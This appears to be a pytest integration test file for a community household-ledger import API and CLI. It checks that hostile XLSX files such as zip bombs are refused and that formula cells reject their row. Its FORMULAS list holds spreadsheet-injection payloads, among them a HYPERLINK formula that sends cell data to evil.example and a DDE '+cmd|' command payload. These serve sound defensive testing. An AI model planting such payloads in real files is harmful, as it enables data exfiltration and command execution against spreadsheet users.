"""The household ledger (住户台账) through the real API and CLI (real Kafka and PostgreSQL
behind them), attacked like the helper ledger: hostile XLSX files (a far cell, a zip bomb,
billion laughs) are refused by the same sandboxed reader with a 422 that says why; a CSV or
XLSX cell holding a formula (=HYPERLINK…, @SUM…, +cmd|…) rejects its row, so nothing of it
is stored for a later export to run; the API goes on serving honest ledgers."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import asyncpg
import httpx
import pytest

from dispatcher.testing.stack import LocalStack
from tests.security.test_xlsx_api import ATTACK_IDS, ATTACKS, XLSX, refused_then_serving
from tests.security.xlsx_files import build, inline_rows, sheet_xml

pytestmark = pytest.mark.integration

COMMUNITY = "sec-households"
STAFF = {"Authorization": "Bearer dev-staff-token"}
ROWS = [
    ["小区", "楼栋", "单元", "户号", "户主", "标签"],
    ["图强小区", "3号楼", "2", "502", "王阿婆", "独居"],
    ["图强小区", "5号楼", "1", "301", "陈叔", "高龄"],
]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点我")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
async def client(stack: LocalStack) -> AsyncIterator[httpx.AsyncClient]:
    await stack.start_api()
    async with httpx.AsyncClient(base_url=stack.api_url, timeout=90) as c:
        yield c


async def post(client: httpx.AsyncClient, data: bytes, kind: str = XLSX) -> httpx.Response:
    return await client.post(
        f"/v1/admin/communities/{COMMUNITY}/households",
        content=data,
        headers={**STAFF, "content-type": kind},
    )


async def stored(stack: LocalStack) -> int:
    conn = await asyncpg.connect(stack.pg_dsn)
    try:
        return int(
            await conn.fetchval(
                "SELECT count(*) FROM households WHERE community_id = $1", COMMUNITY
            )
        )
    finally:
        await conn.close()


@pytest.mark.parametrize(("attack", "says"), ATTACKS, ids=ATTACK_IDS)
async def test_hostile_xlsx_refused_and_api_still_serving(
    client: httpx.AsyncClient, attack: Callable[[list[list[str]]], bytes], says: str
) -> None:
    honest = build(sheet_xml(inline_rows(ROWS), "A1:F3"))
    answer = await refused_then_serving(
        client, lambda data: post(client, data), attack(ROWS), says, honest
    )
    assert answer.json()["imported"] == 2


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_formula_cell_rejects_its_row_and_nothing_is_stored(
    client: httpx.AsyncClient, stack: LocalStack, formula: str, kind: str
) -> None:
    before = await stored(stack)
    rows = [*ROWS, ["图强小区", "7号楼", "1", "101", formula, "独居"]]
    if kind == "csv":
        quoted = '"' + formula.replace('"', '""') + '"'
        text = "\n".join(",".join(quoted if c == formula else c for c in r) for r in rows)
        r = await post(client, text.encode(), "text/csv")
    else:
        r = await post(client, build(sheet_xml(inline_rows(rows), "A1:F4")))
    assert r.status_code == 422, r.text
    report = r.json()
    [problem] = report["rejected"]
    assert problem["row"] == 4 and "公式" in problem["errors"][0]
    assert not report["committed"] and report["cards"] == []
    assert await stored(stack) == before  # nothing of the file was written
    # With partial=true the honest rows go in; the formula's row still does not.
    ok = await client.post(
        f"/v1/admin/communities/{COMMUNITY}/households",
        params={"partial": "true"},
        content=build(sheet_xml(inline_rows(rows), "A1:F4")),
        headers={**STAFF, "content-type": XLSX},
    )
    assert ok.status_code == 200 and ok.json()["imported"] == 2, ok.text
    conn = await asyncpg.connect(stack.pg_dsn)
    try:
        names = await conn.fetch(
            "SELECT contact->>'name' AS name FROM households WHERE community_id = $1", COMMUNITY
        )
    finally:
        await conn.close()
    assert formula not in {n["name"] for n in names}


def test_the_cli_refuses_a_zip_bomb_like_the_api(stack: LocalStack, tmp_path: Path) -> None:
    bomb = tmp_path / "住户台账.xlsx"
    bomb.write_bytes(ATTACKS[1][0](ROWS))
    command = [sys.executable, "-m", "dispatcher", "households", "import", str(bomb)]
    done = subprocess.run(
        [*command, "--community", COMMUNITY],
        env=stack.env(),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2 and "inflates to more than" in done.stderr, done.stderr
    assert done.stdout == ""
